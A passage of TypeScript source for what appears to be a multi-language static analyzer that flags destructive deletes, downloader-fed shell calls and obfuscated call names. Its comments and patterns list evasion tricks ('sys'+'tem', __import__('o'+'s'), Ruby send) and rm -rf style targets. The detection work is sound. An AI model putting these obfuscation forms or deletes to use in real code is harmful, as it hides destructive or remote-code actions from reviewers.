function readQuoted(lang: Language, code: string, i: number, toks: Tok[], raw: boolean, kind: 'f' | undefined): number {
  const q = code[i];
  const triple = lang === 'python' && code.startsWith(q.repeat(3), i);
  const start = i + (triple ? 3 : 1);
  let j = start;
  while (j < code.length) {
    if (code[j] === '\\') {
      j += 2;
      continue;
    }
    if (triple ? code.startsWith(q.repeat(3), j) : code[j] === q) break;
    if (!triple && code[j] === '\n' && lang === 'python') break;
    j++;
  }
  const body = code.slice(start, Math.min(j, code.length));
  const dq = q === '"' && (lang === 'perl' || lang === 'php' || lang === 'ruby');
  const it = kind === 'f' ? interpolated(lang, body, 'f') : dq ? interpolated(lang, body, 'dq') : { text: body, dyn: false };
  toks.push({ k: 'str', v: unescape(it.text, raw), dyn: it.dyn });
  return Math.min(code.length, j + (triple ? 3 : 1));
}

// ---------------------------------------------------------------- values

interface Val {
  /** Known text, with \u0000 marking unknown parts. */
  text?: string;
  list?: Val[];
  /** Comes from the network / from a decoder / from input. */
  net?: boolean;
  decoded?: boolean;
  /** Nothing is known. */
  unknown?: boolean;
  /** An options object holding recursive: true (fs.rmSync(p, {recursive: true})). */
  recursive?: boolean;
  shellTrue?: boolean;
  /** An object literal's static keys ({cmd: [...], args: [...], input: '...'}): what is known of each value. */
  fields?: Map<string, Val>;
}

/** Keys of an options object that are read as values: the argv (Deno.run/Bun.spawn `cmd`, Deno.Command `args`) and text fed to stdin. */
const OPTION_FIELDS = new Set(['cmd', 'args', 'argv', 'input', 'stdin_data', 'command']);

const UNKNOWN: Val = { unknown: true };

interface Scope {
  lang: Language;
  toks: Tok[];
  aliases: Map<string, string>;
  vars: Map<string, [number, number]>;
  ctx: CodeContext;
  home: string;
  evalDepth: number;
  /** Folders the code walks (os.walk, rglob, readdirSync, glob): a delete of what it finds deletes in them. */
  walkRoots: { path: string; filtered: boolean; pattern: string }[];
  /** The code changed its folder to one only known at run time: a relative path is unknown. */
  cwdUnknown?: boolean;
  /** Process-starting calls whose stdin writes were looked for (bounded). */
  stdinProcesses?: number;
}

/** Perl's globs: `glob "~"` is the home folder, `glob "~/*"` every entry of it (the pattern stands for what it matches). */
const PERL_GLOBS = new Set(['glob', 'bsd_glob', 'File::Glob::bsd_glob', 'CORE::glob']);

/** Calls that return the current folder (tracked through chdir calls). */
const CWD_CALLS = new Set(['os.getcwd', 'os.getcwdb', 'process.cwd', 'Deno.cwd', 'Dir.pwd', 'Dir.getwd', 'getcwd', 'Cwd::getcwd', 'Cwd::cwd', 'cwd', 'getwd', 'pwd', 'lfs.currentdir', 'pathlib.Path.cwd', 'Path.cwd']);

/** Index just past the bracket that closes the one at `i`. */
/**
 * Where the receiver of a method call at token i starts: `Path(x).rglob`,
 * `Path.home().unlink`, `$ua->get`: back over one balanced call and a dotted name.
 */
function receiverStart(t: Tok[], i: number): number {
  let r = i - 2;
  if (t[r]?.v === ')') {
    let depth = 0;
    for (; r >= 0; r--) {
      if (t[r].v === ')') depth++;
      else if (t[r].v === '(' && --depth === 0) break;
    }
    // f(...).m(): the call starts at its name; (a / b).m(): a parenthesized expression starts at its '('.
    if (t[r - 1]?.k !== 'id') return Math.max(0, r);
    r--;
    while (r > 0 && t[r].k === 'id' && (t[r - 1]?.v === '.' || t[r - 1]?.v === '::')) r -= 2;
  }
  return Math.max(0, r);
}

function closeOf(toks: Tok[], i: number): number {
  const open = toks[i].v;
  const close = CLOSE[open];
  let depth = 0;
  for (let j = i; j < toks.length; j++) {
    if (toks[j].k !== 'op') continue;
    if (toks[j].v === open) depth++;
    else if (toks[j].v === close && --depth === 0) return j + 1;
  }
  return toks.length;
}

/** Splits toks[a..b) on top-level commas. */
function splitArgs(toks: Tok[], a: number, b: number): [number, number][] {
  const out: [number, number][] = [];
  let start = a;
  for (let j = a; j < b; j++) {
    const t = toks[j];
    if (t.k === 'op' && (t.v === '(' || t.v === '[' || t.v === '{')) {
      j = closeOf(toks, j) - 1;
      continue;
    }
    if (t.k === 'op' && (t.v === ',' || t.v === ';')) {
      out.push([start, j]);
      start = j + 1;
    }
  }
  if (start < b) out.push([start, b]);
  return out;
}

/** A dotted name starting at i (`os.path.join`, `File::Path::rmtree`, `$ua->get`): [name, end]. */
function dottedName(toks: Tok[], i: number, limit = toks.length): [string, number] {
  let name = toks[i].v;
  let j = i + 1;
  while (j + 1 < limit && toks[j].k === 'op' && (toks[j].v === '.' || toks[j].v === '::' || toks[j].v === '->' || toks[j].v === ':') && toks[j + 1].k === 'id') {
    name += (toks[j].v === '::' ? '::' : toks[j].v === '->' ? '->' : '.') + toks[j + 1].v;
    j += 2;
  }
  return [name, j];
}

function canonical(s: Scope, name: string): string {
  const first = name.split(/\.|::|->/)[0];
  const alias = s.aliases.get(first);
  const full = alias ? alias + name.slice(first.length) : name;
  return full.replace(/^node:/, '').replace(/^CORE::(?:GLOBAL::)?/, '').replace(/^fs\/promises/, 'fs.promises').replace(/^(?:require\.main\.)?require\b/, 'require').replace(/^fs\.promises\.promises/, 'fs.promises');
}

function sinkOf(s: Scope, name: string): Sink | undefined {
  const table = SINKS[s.lang];
  const c = canonical(s, name);
  const direct = own(table, c);
  if (direct) return direct;
  // fs-extra, graceful-fs, fs/promises: the last part names the sink.
  const parts = c.split(/\.|::|->/);
  const last = parts[parts.length - 1];
  if (parts.length > 1) {
    const mod = parts.slice(0, -1).join('.');
    if (s.lang === 'node' && /^(?:fs|fs-extra|graceful-fs|fs\.promises|fsp|fse)$/.test(mod) && own(table, 'fs.' + last)) return own(table, 'fs.' + last);
    if (s.lang === 'node' && /^(?:fs-extra|fse)$/.test(mod) && own(table, 'fs-extra.' + last)) return own(table, 'fs-extra.' + last);
    if (own(table, '.' + last) && !(s.lang === 'python' && ['os', 'sys', 'json', 're', 'str'].includes(mod))) return own(table, '.' + last);
    if (s.lang === 'perl' && own(table, '->' + last)) return own(table, '->' + last);
    // A module reached through another (shutil.os.path.expanduser): try the shorter tails.
    for (let k = 1; k < parts.length - 1; k++) {
      const hit = own(table, parts.slice(k).join('.'));
      if (hit) return hit;
    }
  }
  return undefined;
}

/** Evaluates toks[a..b) to what is known of its value. */
function evalExpr(s: Scope, a: number, b: number, depth = 0): Val {
  if (a >= b || depth > 12) return UNKNOWN;
  const t = s.toks;
  // Parenthesized / list literals; R's vectors (`c("-rf", "/")`).
  if (t[a].k === 'op' && (t[a].v === '[' || (t[a].v === '(' && s.lang === 'perl')) && closeOf(t, a) === b) {
    return { list: splitArgs(t, a + 1, b - 1).map(([x, y]) => evalExpr(s, x, y, depth + 1)) };
  }
  if (s.lang === 'r' && t[a].k === 'id' && t[a].v === 'c' && t[a + 1]?.v === '(' && closeOf(t, a + 1) === b) {
    return { list: splitArgs(t, a + 2, b - 1).map(([x, y]) => evalExpr(s, x, y, depth + 1)) };
  }
  // R's named argument (`args = c(...)`): its value.
  if (s.lang === 'r' && t[a].k === 'id' && t[a + 1]?.k === 'op' && t[a + 1].v === '=' && a + 2 < b) return evalExpr(s, a + 2, b, depth + 1);
  if (t[a].k === 'op' && t[a].v === '(' && closeOf(t, a) === b) return evalExpr(s, a + 1, b - 1, depth + 1);
  if (t[a].k === 'op' && t[a].v === '{') {
    const body = t.slice(a, b);
    let fields: Map<string, Val> | undefined;
    if (closeOf(t, a) === b) {
      for (const [p, q] of splitArgs(t, a + 1, b - 1)) {
        const key = t[p];
        if (!key || (key.k !== 'id' && key.k !== 'str') || !OPTION_FIELDS.has(key.v.replace(/^:/, '')) || (t[p + 1]?.v !== ':' && t[p + 1]?.v !== '=>')) continue;
        (fields ??= new Map()).set(key.v, evalExpr(s, p + 2, q, depth + 1));
      }
    }
    return { unknown: true, fields, recursive: body.some((x, i) => x.v === 'recursive' && (body[i + 2]?.v === 'true' || body[i + 2]?.v === 'True')), shellTrue: body.some((x, i) => x.v === 'shell' && body[i + 2]?.v === 'true') };
  }
  if (t[a].k === 'str' && t[a].words) return { list: t[a].words!.map((w) => ({ text: w })) };
  // Concatenation: split on top-level + . .. ~ (string concat) and join.
  const parts: [number, number][] = [];
  let start = a;
  for (let j = a; j < b; j++) {
    const x = t[j];
    if (x.k === 'op' && (x.v === '(' || x.v === '[' || x.v === '{')) {
      j = closeOf(t, j) - 1;
      continue;
    }
    const concat = x.k === 'op' && (x.v === '+' || x.v === '..' || (x.v === '.' && (s.lang === 'perl' || s.lang === 'php')) || (x.v === '/' && s.lang === 'python'));
    if (concat && j > start) {
      parts.push([start, j]);
      start = j + 1;
    }
  }
  if (parts.length) {
    parts.push([start, b]);
    const vals = parts.map(([x, y]) => evalExpr(s, x, y, depth + 1));
    const pathJoin = s.lang === 'python' && t.slice(a, b).some((x) => x.k === 'op' && x.v === '/');
    return {
      text: vals.map((v) => v.text ?? '\u0000').join(pathJoin ? '/' : ''),
      net: vals.some((v) => v.net),
      decoded: vals.some((v) => v.decoded),
      list: vals.every((v) => v.list) ? vals.flatMap((v) => v.list!) : undefined,
    };
  }
  // `cmd` / qx(cmd) / %x(cmd) as a value: the command's output (from the network when it runs a downloader).
  if (t[a].k === 'str' && b === a + 1 && t[a].shell) return { text: '\u0000', decoded: true, net: fetchesFromNetwork([{ text: resolveInterp(s, t[a], depth) }]) };
  if (t[a].k === 'str' && b === a + 1) return { text: resolveInterp(s, t[a], depth) };
  if (t[a].k === 'str' && b > a + 1 && t[a + 1].k === 'op' && t[a + 1].v === '.') {
    // "...".join(x), "...".decode(), '...'[::-1]
    return { text: '\u0000', decoded: true };
  }
  if (t[a].k === 'str' && b > a + 1 && t[a + 1].v === '[') return { text: '\u0000', decoded: true };
  if (t[a].k === 'num') return { text: t[a].v };
  if (t[a].k === 'id') {
    // new X(...)
    let i = a;
    if (t[i].v === 'new' && i + 1 < b) i++;
    if (t[i].k !== 'id') return UNKNOWN;
    const [name, end] = dottedName(t, i, b);
    const cname = canonical(s, name);
    if (end === b) {
      if (/^(?:\$?ENV|os\.environ|process\.env)(?:\.HOME|\.USERPROFILE)$/.test(cname)) return { text: s.home };
      if (cname === 'sys.stdin' || cname === 'process.stdin' || cname === 'STDIN' || cname === '$stdin' || cname === 'ARGV' || cname === '@ARGV' || cname === 'sys.argv' || cname === 'process.argv') return { text: '\u0000', decoded: true };
      if (['True', 'true', 'False', 'false', 'None', 'null', 'nil', 'undefined'].includes(name)) return { text: name };
      if (sinkOf(s, name) === 'home') return { text: s.home };
      const v = s.vars.get(name);
      if (v && depth < 10) return evalExpr(s, v[0], v[1], depth + 1);
      return UNKNOWN;
    }
    // Subscripts: os.environ['HOME'], ENV['HOME'], $ENV{HOME}, $_SERVER['HOME'], process.env['HOME']
    if (t[end] && (t[end].v === '[' || t[end].v === '{') && closeOf(t, end) === b) {
      const key = t[end + 1];
      if (key && /^(?:HOME|USERPROFILE)$/.test(key.v) && /(?:environ|ENV|env|_SERVER)$/.test(cname)) return { text: s.home };
      const base = evalExpr(s, a, end, depth + 1);
      return { text: '\u0000', net: base.net, decoded: base.decoded || base.net !== true };
    }
    // Perl's glob without parentheses (unlink glob "~/*", system qw(rm -rf), glob "~"): the paths its pattern names.
    if (s.lang === 'perl' && PERL_GLOBS.has(cname) && t[end] && (t[end].k === 'str' || t[end].k === 'id')) {
      const pat = evalExpr(s, end, b, depth + 1);
      return pat.text !== undefined && !pat.text.startsWith('\u0000') ? { text: expandTilde(pat.text, s.home) } : UNKNOWN;
    }
    if (t[end] && t[end].v === '(') {
      const close = closeOf(t, end);
      const args = splitArgs(t, end + 1, close - 1).map(([x, y]) => evalExpr(s, x, y, depth + 1));
      const sink = sinkOf(s, name);
      let v: Val;
      if (sink === 'walk' && args[0]?.text !== undefined && !args[0].text.startsWith('\u0000') && !isFileFindCall(s, cname)) addWalkRoot(s, args[0].text);
      if (sink === 'walk' && close < b && args.length === 0) {
        // Path.home().rglob('*'): the receiver is the root
      }
      const homeCall = (sink === 'home' || /^(?:os\.homedir|Path\.home|pathlib\.Path\.home|Dir\.home|os\.getenv|getenv|os\.environ\.get)$/.test(cname)) && (/(?:homedir|home)$/i.test(cname) || /^["']?(?:HOME|USERPROFILE)/.test(args[0]?.text ?? ''));
      const tail = cname.split('.').slice(-3).join('.');
      // f:read('a') / res.read() on a variable holding a download: the download.
      const recvName = name.split(/\.|::|->/)[0];
      if (recvName !== name && !s.aliases.has(recvName) && depth < 10) {
        const rv = s.vars.get(recvName);
        if (rv && evalExpr(s, rv[0], rv[1], depth + 1).net) return { text: '\u0000', net: true };
      }
      if (CWD_CALLS.has(cname) && !s.cwdUnknown) v = { text: s.ctx.cwd };
      else if (homeCall) v = { text: s.home };
      else if (/(?:^|\.)os\.path\.expanduser$/.test(cname) || tail === 'os.path.expanduser') v = args[0] ?? UNKNOWN;
      else if (sink === 'net' || ((sink === 'shell' || sink === 'argv') && fetchesFromNetwork(args))) v = { text: '\u0000', net: true };
      else if (sink === 'decode') v = { text: '\u0000', decoded: true, net: args.some((x) => x.net) };
      else if (sink === 'path') v = args[0] ?? UNKNOWN;
      else if (sink === 'join') v = { text: args.map((x) => x.text ?? '\u0000').join('/') };
      else if (cname === 'os.path.expanduser' || cname === 'File.expand_path') v = args[0] ?? UNKNOWN;
      else if (cname === '__import__' || cname === 'importlib.import_module' || cname === 'require') v = { text: '\u0000', unknown: true };
      else if (s.lang === 'perl' && PERL_GLOBS.has(cname) && args[0]?.text !== undefined && !args[0].text.startsWith('\u0000')) v = { text: expandTilde(args[0].text, s.home) };
      else v = { text: '\u0000', net: args.some((x) => x.net), decoded: args.some((x) => x.decoded) };
      if (close < b) {
        // A method on the result: urlopen(u).read(), fetch(u).then(...), Path(p).expanduser()
        const rest = t.slice(close, b);
        const restNet = rest.some((x) => x.k === 'id' && /^(?:read|text|json|content|body|decode|then|data|readlines)$/.test(x.v));
        if (v.net) return { text: '\u0000', net: true };
        if (rest[0]?.v === '.' && rest[1] && /^(?:expanduser|resolve|absolute|as_posix)$/.test(rest[1].v)) return v;
        if (rest[0]?.v === '.' && rest[1]?.v === 'joinpath') return { text: (v.text ?? '\u0000') + '/' + (evalExpr(s, close + 3, b - 1, depth + 1).text ?? '\u0000') };
        return { text: '\u0000', decoded: v.decoded || restNet, net: v.net };
      }
      return v;
    }
  }
  return UNKNOWN;
}

/** Programs whose output is what they fetch from the network (git's is the repository's, not a download). */
const fetcher = (word: string | undefined): boolean => !!word && posix.basename(word) !== 'git' && isDownloader(posix.basename(word));

/** A shell string or argv (the arguments of a shell/argv call) that runs a downloader: its output comes from the network. */
function fetchesFromNetwork(args: Val[]): boolean {
  const v = args[0];
  if (!v) return false;
  if (v.list) return fetcher(v.list[0]?.text);
  const cmd = v.fields?.get('cmd')?.list?.[0]?.text;
  if (cmd) return fetcher(cmd);
  if (v.text === undefined) return false;
  if (args[1]?.fields?.get('args') || args[1]?.list) return fetcher(v.text);
  return v.text.split(/[|;&]+/).slice(0, 8).some((part) => fetcher(part.trim().split(/\s+/).find((w) => w !== 'sudo' && !/^\w+=/.test(w))));
}

function resolveInterp(s: Scope, tok: Tok, depth: number): string {
  if (!tok.dyn) return expandTilde(tok.v, s.home);
  const out = tok.v.replace(/\u0000([^\u0001]*)\u0001/g, (_m, name: string) => {
    const v = s.vars.get(name.replace(/^[$@]/, '')) ?? s.vars.get(name);
    if (v && depth < 10) {
      const val = evalExpr(s, v[0], v[1], depth + 1);
      if (val.text !== undefined && !val.text.includes('\u0000')) return val.text;
    }
    if (/^(?:HOME|ENV\{'?HOME'?\}|process\.env\.HOME|os\.homedir\(\))$/.test(name)) return s.home;
    return '\u0000';
  });
  return expandTilde(out, s.home);
}

function expandTilde(text: string, home: string): string {
  return text === '~' || text.startsWith('~/') ? home + text.slice(1) : text;
}

// ---------------------------------------------------------------- analysis

function collectAliases(s: Scope): void {
  const t = s.toks;
  for (let i = 0; i < t.length; i++) {
    const x = t[i];
    if (x.k !== 'id') continue;
    if (s.lang === 'python') {
      if (x.v === 'import' && (i === 0 || t[i - 1].v === ';' || t[i - 1].v === ':')) {
        let j = i + 1;
        while (j < t.length && t[j].v !== ';') {
          if (t[j].k === 'id') {
            const [mod, e] = dottedName(t, j);
            if (t[e]?.v === 'as' && t[e + 1]?.k === 'id') {
              s.aliases.set(t[e + 1].v, mod);
              j = e + 2;
            } else {
              s.aliases.set(mod.split('.')[0], mod.split('.')[0]);
              j = e;
            }
            continue;
          }
          j++;
        }
      }
      if (x.v === 'from' && t[i + 1]?.k === 'id') {
        const [mod, e] = dottedName(t, i + 1);
        if (t[e]?.v !== 'import') continue;
        let j = e + 1;
        while (j < t.length && t[j].v !== ';') {
          if (t[j].k === 'id' && t[j].v !== 'as') {
            const name = t[j].v;
            if (t[j + 1]?.v === 'as' && t[j + 2]?.k === 'id') {
              s.aliases.set(t[j + 2].v, mod + '.' + name);
              j += 3;
              continue;
            }
            s.aliases.set(name, mod + '.' + name);
          }
          if (t[j].v === '*') for (const k of Object.keys(SINKS.python)) if (k.startsWith(mod + '.')) s.aliases.set(k.slice(mod.length + 1), k);
          j++;
        }
      }
    }
    if (s.lang === 'node') {
      // Other names of require: Module._load (module.constructor._load('m')), createRequire(url)('m').
      // The object they hang on (`module.constructor.`, `require('module').`) goes with them.
      const requireAt = (from: number, to: number) => {
        let j = from;
        while (t[j - 1]?.v === '.' && t[j - 2]?.k === 'id') j -= 2;
        t.splice(j, to - j + 1, { k: 'id', v: 'require' });
        i = j;
      };
      if (x.v === '_load' && t[i - 1]?.v === '.' && t[i + 1]?.v === '(') requireAt(i, i);
      else if (x.v === 'createRequire' && t[i + 1]?.v === '(' && closeOf(t, i + 1) <= t.length) {
        const c = closeOf(t, i + 1) - 1;
        // createRequire(url)('m') now, or `const r = createRequire(url)` for later: r is require.
        if (t[c + 1]?.v === '(') requireAt(i, c);
        else {
          let j = i;
          while (t[j - 1]?.v === '.' && t[j - 2]?.k === 'id') j -= 2;
          if (t[j - 1]?.v === '=' && t[j - 2]?.k === 'id') s.aliases.set(t[j - 2].v, 'require');
        }
      }
      const y = t[i];
      // const X = require('m') / import X from 'm' / import * as X from 'm' / const {a, b: c} = require('m') / import {a as b} from 'm'
      if (y.v === 'require' || y.v === 'import' || (s.aliases.get(y.v) === 'require' && t[i + 1]?.v === '(')) {
        const open = t[i + 1]?.v === '(' ? i + 1 : -1;
        let mod: string | undefined;
        if (open > 0 && t[open + 1]?.k === 'str') mod = t[open + 1].v;
        if (x.v === 'import' && open < 0) {
          const from = t.findIndex((y, k) => k > i && y.v === 'from');
          if (from > 0 && t[from + 1]?.k === 'str') mod = t[from + 1].v;
          if (mod) bindNodeImport(s, t, i + 1, from, mod.replace(/^node:/, ''));
          continue;
        }
        if (!mod) continue;
        mod = mod.replace(/^node:/, '').replace(/^fs\/promises$/, 'fs.promises');
        // backwards: `X =` or `{...} =` before require
        let k = i - 1;
        if (t[k]?.v === 'await') k--;
        if (t[k]?.v === '=') {
          if (t[k - 1]?.k === 'id') s.aliases.set(t[k - 1].v, mod);
          else if (t[k - 1]?.v === '}') {
            let o = k - 1;
            while (o >= 0 && t[o].v !== '{') o--;
            bindNodeImport(s, t, o, k - 1, mod);
          }
        }
        // import('m').then(f => f.rm(...)) / .then(({rm}) => rm(...)) / .then(function (f) {...}): the callback's parameter is the module.
        if (t[open + 2]?.v === ')' && t[open + 3]?.v === '.' && t[open + 4]?.v === 'then' && t[open + 5]?.v === '(') {
          let p = open + 6;
          if (t[p]?.v === 'async') p++;
          if (t[p]?.v === 'function') p++;
          if (t[p]?.k === 'id' && t[p].v !== 'function' && (t[p + 1]?.v === '=>' || t[p + 1]?.v === '=')) s.aliases.set(t[p].v, mod);
          else if (t[p]?.v === '(' && t[p + 1]?.k === 'id' && t[p + 2]?.v === ')') s.aliases.set(t[p + 1].v, mod);
          else if (t[p]?.v === '(' && t[p + 1]?.v === '{') bindNodeImport(s, t, p + 2, closeOf(t, p + 1) - 1, mod);
        }
        // require('m').x → handled by canonical through the 'require' marker
        if (t[open + 2]?.v === ')' && t[open + 3]?.v === '.' && t[open + 4]?.k === 'id') {
          t[i] = { k: 'id', v: mod };
          t.splice(i + 1, 3);
          // const f = require('m').x; f(...): f is m.x
          const [full, e] = dottedName(t, i);
          if (t[i - 1]?.v === '=' && t[i - 2]?.k === 'id' && (e >= t.length || t[e].v === ';' || t[e].v === ',')) s.aliases.set(t[i - 2].v, full);
        }
      }
    }
    if (s.lang === 'python' && (x.v === '__import__' || x.v === 'importlib') && t[i + 1]) {
      // __import__('os').system(...) → os.system(...)
      const open = x.v === '__import__' ? i + 1 : t[i + 1]?.v === '.' && t[i + 2]?.v === 'import_module' ? i + 3 : -1;
      if (open > 0 && t[open]?.v === '(' && t[open + 1]?.k === 'str' && t[open + 2]?.v === ')') {
        const mod = t[open + 1].v;
        t.splice(i, open + 3 - i, { k: 'id', v: mod });
        s.aliases.set(mod, mod);
        // m = __import__('os'): m is the module.
        if (t[i - 1]?.v === '=' && t[i - 2]?.k === 'id' && (t[i + 1] === undefined || t[i + 1].v === ';')) s.aliases.set(t[i - 2].v, mod);
      }
    }
    if (s.lang === 'python' && x.v === 'getattr' && t[i + 1]?.v === '(' && t[i + 2]?.k === 'id' && t[i + 3]?.v === ',' && t[i + 4]?.k === 'str' && t[i + 5]?.v === ')') {
      t.splice(i, 6, { k: 'id', v: t[i + 2].v + '.' + t[i + 4].v });
    }
    // f = os.system / const run = cp.execSync / local o = os: a name for a module or one of its calls.
    if ((s.lang === 'python' || s.lang === 'node' || s.lang === 'lua') && t[i + 1]?.v === '=' && t[i + 2]?.k === 'id' && t[i + 2].v !== 'require' && t[i - 1]?.v !== '.' && !s.aliases.has(x.v)) {
      const [rhs, e] = dottedName(t, i + 2);
      const head = rhs.split('.')[0];
      const known = s.aliases.has(head) || Object.keys(SINKS[s.lang]).some((k) => k.startsWith(head + '.'));
      if (known && (e >= t.length || t[e].v === ';' || t[e].v === ',') && (rhs.includes('.') || s.aliases.has(head) || s.lang === 'lua')) s.aliases.set(x.v, canonical(s, rhs));
    }
    if (s.lang === 'ruby' && x.v === 'include' && t[i + 1]?.v === 'FileUtils') for (const k of Object.keys(SINKS.ruby)) if (k.startsWith('FileUtils.')) s.aliases.set(k.slice(10), k);
    if (s.lang === 'perl' && x.v === 'use' && t[i + 1]?.k === 'id') {
      const mod = t[i + 1].v;
      for (const k of Object.keys(SINKS.perl)) if (k.startsWith(mod + '::')) s.aliases.set(k.slice(mod.length + 2), k);
    }
  }
}

const MAX_FOLDS = 32;
const NAME_TEXT = /^[A-Za-z_$][\w$]*$/;
/** Callers of a method named by a value: Ruby send / public_send / __send__ / method(:x).call, Python getattr. */
const SEND_CALLS = new Set(['send', 'public_send', '__send__']);

/** The static name an expression computes ('exec'+'Sync', :system, "sys"."tem"), when it is one. */
function staticName(s: Scope, a: number, b: number): string | undefined {
  const t = s.toks;
  if (s.lang === 'ruby' && t[a]?.v === ':' && t[a + 1]?.k === 'id' && b === a + 2) return t[a + 1].v;
  if (s.lang === 'ruby' && t[a]?.v === ':' && t[a + 1]?.k === 'str' && b === a + 2) return t[a + 1].v;
  const v = evalExpr(s, a, b);
  const text = v.text;
  return text !== undefined && !v.list && NAME_TEXT.test(text) ? text : undefined;
}

/** Perl: a static sub name, without the CORE:: / main:: package. */
function staticPerlName(s: Scope, a: number, b: number): string | undefined {
  const v = evalExpr(s, a, b);
  const text = v.text?.replace(/^(?:CORE::GLOBAL::|CORE::|main::|::)/, '');
  return text !== undefined && !v.list && /^[A-Za-z_]\w*(?:::\w+)*$/.test(text) ? text : undefined;
}

/** Perl: the sub a value names: \&name, \&CORE::name, or a static string. */
function perlSubName(s: Scope, a: number, b: number): string | undefined {
  const t = s.toks;
  if (b === a + 3 && t[a].v === '\\' && t[a + 1].v === '&' && t[a + 2].k === 'id') return t[a + 2].v.replace(/^(?:CORE::GLOBAL::|CORE::|main::)/, '');
  return staticPerlName(s, a, b);
}

/** Index of the bracket that opens the one closing at `j`. */
function openOf(t: Tok[], j: number): number {
  const close = t[j].v;
  const open = close === ')' ? '(' : close === ']' ? '[' : '{';
  let depth = 0;
  for (let k = j; k >= 0; k--) {
    if (t[k].k !== 'op') continue;
    if (t[k].v === close) depth++;
    else if (t[k].v === open && --depth === 0) return k;
  }
  return 0;
}

/**
 * Rewrites members and callees named by a computed string into plain names, so the
 * sink tables see them: `x['exec'+'Sync'](` -> `x.execSync(`, `getattr(os, 'sys'+'tem')` -> `os.system`,
 * Ruby `send(:system, a)` / `Kernel.public_send(:system, a)` / `method(:system).call(a)` -> `system(a)`,
 * PHP `$f = 'sys'.'tem'; $f(a)` -> `system(a)`, loaders given a computed module (`__import__('o'+'s')`).
 * Bounded: at most MAX_FOLDS rewrites, each followed by one linear pass over the variables.
 */
function foldComputedNames(s: Scope): void {
  let folds = 0;
  const t = s.toks;
  const redo = (): void => {
    folds++;
    s.vars.clear();
    collectVars(s);
    collectLoopVars(s);
  };
  for (let i = 0; i < t.length && folds < MAX_FOLDS; i++) {
    const x = t[i];
    // PHP: call_user_func($f, ...) / array_map($f, ...) with $f a static name: the name as a string.
    if (s.lang === 'php' && x.k === 'id' && x.v.startsWith('$') && t[i - 1]?.v === '(' && CALLABLE_TAKERS.has(t[i - 2]?.v ?? '')) {
      const v = s.vars.get(x.v);
      const name = v ? staticName(s, v[0], v[1]) : undefined;
      if (name) t[i] = { k: 'str', v: name };
      continue;
    }
    if (s.lang === 'php' && x.k === 'op' && x.v === '(' && CALLABLE_TAKERS.has(t[i - 1]?.v ?? '') && t[i + 1]?.k === 'str' && t[i + 2]?.v !== ',' && t[i + 2]?.v !== ')') {
      // call_user_func('sys'.'tem', ...): the computed name as one string.
      const parts = splitArgs(t, i + 1, closeOf(t, i) - 1);
      const name = parts.length ? staticName(s, parts[0][0], parts[0][1]) : undefined;
      if (name) {
        t.splice(parts[0][0], parts[0][1] - parts[0][0], { k: 'str', v: name });
        redo();
      }
      continue;
    }
    // x[expr]( / x[expr]. : a member named by a computed string (Python, JS, Lua).
    if (x.k === 'op' && x.v === '[' && (s.lang === 'python' || s.lang === 'node' || s.lang === 'lua') && i > 0 && (t[i - 1].k === 'id' || t[i - 1].v === ')' || t[i - 1].v === ']')) {
      const close = closeOf(t, i);
      const next = t[close]?.v;
      if (next !== '(' && next !== '.' && next !== '[' && !(next === ':' && s.lang === 'lua') && !(t[close]?.k === 'str' && s.lang === 'node')) continue;
      const name = staticName(s, i + 1, close - 1);
      if (!name || /^\d/.test(name)) continue;
      // os.__dict__['system'] / vars(os)['system'] are os.system.
      const dict = s.lang === 'python' && t[i - 1].v === '__dict__' && t[i - 2]?.v === '.' ? 2 : 0;
      t.splice(i - dict, close - i + dict, { k: 'op', v: '.' }, { k: 'id', v: name });
      redo();
      continue;
    }
    // Perl: &$name(...) / &{"name"}(...) / &{\&name}: the sub the string names.
    if (s.lang === 'perl' && x.k === 'op' && x.v === '&' && (t[i + 1]?.k === 'id' || t[i + 1]?.v === '{') && t[i - 1]?.k !== 'id' && t[i - 1]?.k !== 'str' && t[i - 1]?.v !== ')') {
      let name: string | undefined;
      let stop = i + 2;
      if (t[i + 1].k === 'id' && t[i + 1].v.startsWith('$')) {
        const v = s.vars.get(t[i + 1].v);
        name = v ? perlSubName(s, v[0], v[1]) : undefined;
      } else if (t[i + 1].v === '{') {
        stop = closeOf(t, i + 1);
        name = staticPerlName(s, i + 2, stop - 1);
      }
      if (!name || t[stop]?.v !== '(') continue;
      t.splice(i, stop - i, { k: 'id', v: name });
      redo();
      continue;
    }
    if (x.k !== 'id') continue;
    // Perl: $f->(...) with $f = \&system or 'system'.
    if (s.lang === 'perl' && x.v.startsWith('$') && t[i + 1]?.v === '->' && t[i + 2]?.v === '(') {
      const v = s.vars.get(x.v);
      const name = v ? perlSubName(s, v[0], v[1]) : undefined;
      if (!name) continue;
      t.splice(i, 2, { k: 'id', v: name });
      redo();
      continue;
    }
    // getattr(obj, expr) -> obj.name
    if (s.lang === 'python' && x.v === 'getattr' && t[i + 1]?.v === '(' && t[i - 1]?.v !== '.') {
      const close = closeOf(t, i + 1);
      const parts = splitArgs(t, i + 2, close - 1);
      if (parts.length !== 2) continue;
      const name = staticName(s, parts[1][0], parts[1][1]);
      if (!name) continue;
      const recv = t.slice(parts[0][0], parts[0][1]);
      t.splice(i, close - i, ...recv, { k: 'op', v: '.' }, { k: 'id', v: name });
      redo();
      i--;
      continue;
    }
    // Loaders given a computed module name: __import__('o'+'s'), require('child_'+'process'), importlib.import_module(...)
    if ((x.v === '__import__' || x.v === 'import_module' || x.v === 'require') && t[i + 1]?.v === '(') {
      const close = closeOf(t, i + 1);
      if (close - (i + 2) < 2 || (close - (i + 2) === 2 && t[i + 2].k === 'str')) continue;
      const v = evalExpr(s, i + 2, close - 1);
      if (v.text === undefined || v.list || !/^[\w.:/@-]+$/.test(v.text)) continue;
      t.splice(i + 2, close - 1 - (i + 2), { k: 'str', v: v.text });
      redo();
      continue;
    }
    // Ruby: [recv.]send(:name, args) / send :name, args / method(:name).call(args)
    if (s.lang === 'ruby' && (SEND_CALLS.has(x.v) || x.v === 'method') && (t[i - 1]?.v === '.' || t[i - 1]?.k !== 'op' || t[i - 1]?.v === ';' || t[i - 1]?.v === '(' || t[i - 1]?.v === '{' || t[i - 1]?.v === '=')) {
      const paren = t[i + 1]?.v === '(';
      let stop: number;
      if (paren) stop = closeOf(t, i + 1) - 1;
      else {
        stop = i + 1;
        while (stop < t.length && t[stop].v !== ';' && t[stop].v !== '}' && !(t[stop].k === 'id' && ['if', 'unless', 'do', 'end'].includes(t[stop].v))) stop = t[stop].k === 'op' && (t[stop].v === '(' || t[stop].v === '[' || t[stop].v === '{') ? closeOf(t, stop) : stop + 1;
      }
      const parts = splitArgs(t, i + 2 - (paren ? 0 : 1), stop);
      if (!parts.length) continue;
